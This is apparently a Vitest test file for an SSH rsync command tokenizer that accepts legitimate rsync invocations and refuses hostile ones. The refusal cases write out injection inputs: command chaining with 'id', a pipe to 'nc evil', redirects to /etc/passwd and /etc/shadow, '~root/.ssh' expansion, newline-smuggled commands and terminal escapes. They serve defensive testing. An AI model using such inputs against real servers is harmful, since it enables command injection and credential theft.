import { describe, expect, it } from 'vitest';
import { MAX_COMMAND_BYTES, tokenizeCommand } from '../../src/gate/tokenize.js';
import { outcome } from '../helpers/outcome.js';

describe('tokenizeCommand: what real rsync clients send', () => {
  it.each([
    ['rsync --server -logDtpre.iLsfxCIvu . zones/', ['rsync', '--server', '-logDtpre.iLsfxCIvu', '.', 'zones/']],
    ['rsync --server --sender -vlogDtpre.iLsfxCIvu . zones/', ['rsync', '--server', '--sender', '-vlogDtpre.iLsfxCIvu', '.', 'zones/']],
    // rsync escapes a space inside a path
    ['rsync --server . zones/ex\\ ample/', ['rsync', '--server', '.', 'zones/ex ample/']],
    ['rsync --server . zones/été/', ['rsync', '--server', '.', 'zones/été/']],
    ['rsync --server . zones/it\\\'s\\ \\"q\\"', ['rsync', '--server', '.', 'zones/it\'s "q"']],
    ['rsync --server . zones/\\$HOME\\;id\\&\\(x\\)\\|\\{y\\}\\<z\\>\\!\\#\\`', ['rsync', '--server', '.', 'zones/$HOME;id&(x)|{y}<z>!#`']],
    ['rsync --server . zones/back\\\\slash', ['rsync', '--server', '.', 'zones/back\\slash']],
    // an escaped glob character is a literal one, and stays one: no shell runs
    ['rsync --server . zones/star\\*lit\\?\\[x\\]', ['rsync', '--server', '.', 'zones/star*lit?[x]']],
    ['rsync --server --usermap=\\*:root . zones/', ['rsync', '--server', '--usermap=*:root', '.', 'zones/']],
    // '~' only expands at the start of a word, so rsync leaves a later one (e.g. --suffix=~) alone
    ['rsync --server --suffix=~ . zones/a~b', ['rsync', '--server', '--suffix=~', '.', 'zones/a~b']],
    ['rsync --server . \\~/literal', ['rsync', '--server', '.', '~/literal']],
    ['rsync --server . zones/a^b%c=d,e@f:g+h', ['rsync', '--server', '.', 'zones/a^b%c=d,e@f:g+h']],
    ['rsync --server . ./-dash', ['rsync', '--server', '.', './-dash']],
    ['rsync --server . x\\ ', ['rsync', '--server', '.', 'x ']],
  ])('%j', (command, words) => {
    expect(tokenizeCommand(command)).toEqual(words);
  });
});

describe('tokenizeCommand: refusals', () => {
  it.each([
    // attack: interactive login (no SSH_ORIGINAL_COMMAND)
    ['', 'empty-command'],
    ['   ', 'empty-command'],
    // attack: command chaining, as a shell would run it
    ['rsync --server . x;id', 'shell-metachar'],
    ['rsync --server . x && id', 'shell-metachar'],
    ['rsync --server . x | nc evil 1', 'shell-metachar'],
    ['rsync --server . x `id`', 'shell-metachar'],
    ['rsync --server . $(id)', 'shell-metachar'],
    ['rsync --server . ${HOME}', 'shell-metachar'],
    ['rsync --server . x > /etc/passwd', 'shell-metachar'],
    ['rsync --server . < /etc/shadow', 'shell-metachar'],
    ['rsync --server . x # comment', 'shell-metachar'],
    ['rsync --server . !!', 'shell-metachar'],
    // attack: quoting that a shell would remove but we would keep (or vice versa)
    ["rsync --server . 'a b'", 'shell-metachar'],
    ['rsync --server . "a b"', 'shell-metachar'],
    // attack: unescaped glob, which a shell would expand to other files
    ['rsync --server --sender . zones/*.db', 'shell-metachar'],
    ['rsync --server --sender . zones/db.?', 'shell-metachar'],
    ['rsync --server --sender . zones/[a-z]', 'shell-metachar'],
    // attack: tilde expansion to the account's home or another user's home
    ['rsync --server . ~/zones', 'shell-metachar'],
    ['rsync --server . ~root/.ssh', 'shell-metachar'],
    ['rsync --server --backup-dir ~/bak . zones/', 'shell-metachar'],
    // attack: a second command line after a newline (sshd passes it verbatim)
    ['rsync --server . x\nid', 'control-char'],
    ['rsync --server . x\\\nid', 'control-char'],
    ['rsync --server . x\rid', 'control-char'],
    ['rsync\t--server . x', 'control-char'],
    ['rsync --server . x\0y', 'control-char'],
    ['rsync --server . x\x7f', 'control-char'],
    // attack: C1 CSI, a one-byte terminal escape once the log is viewed
    ['rsync --server . x\u009b2J', 'control-char'],
    ['rsync --server . x\u001b[2J', 'control-char'],
    // attack: invalid UTF-8 (Node already replaced it with U+FFFD) and lone surrogates
    ['rsync --server . zones/\ufffd', 'invalid-utf8'],
    ['rsync --server . zones/\ud800', 'invalid-utf8'],
    ['rsync --server . zones/\udfff', 'invalid-utf8'],
    // attack: shapes a shell would split the same way but ssh never produces from the client's words
    [' rsync --server . x', 'bad-spacing'],
    ['rsync  --server . x', 'bad-spacing'],
    ['rsync --server . x ', 'bad-spacing'],
    // attack: a first word that only becomes "rsync" once unescaped
    ['\\rsync --server . x', 'not-rsync'],
    ['r\\sync --server . x', 'not-rsync'],
    ['rsync\\ --server . x', 'not-rsync'],
    // attack: a backslash escaping "nothing", which a shell would read as a line continuation
    ['rsync --server . x\\', 'trailing-backslash'],
    // attack: memory/CPU exhaustion with a huge command
    [`rsync --server . ${'a'.repeat(MAX_COMMAND_BYTES)}`, 'too-long'],
    [`rsync --server . ${'é'.repeat(MAX_COMMAND_BYTES / 2)}`, 'too-long'],
  ])('%j -> %s', (command, reason) => {
    expect(outcome(() => tokenizeCommand(command))).toMatchObject({
      kind: 'refused',
      reason,
      exitCode: 65,
    });
  });

  it('accepts a command just under the cap', () => {
    const prefix = 'rsync --server . ';
    const command = prefix + 'a'.repeat(MAX_COMMAND_BYTES - prefix.length);
    expect(outcome(() => tokenizeCommand(command)).kind).toBe('ok');
  });

  it('names the problem in one line for the client', () => {
    try {
      tokenizeCommand('rsync --server . x;id');
      expect.unreachable();
    } catch (error) {
      expect((error as Error).message).not.toMatch(/\n/);
    }
  });
});
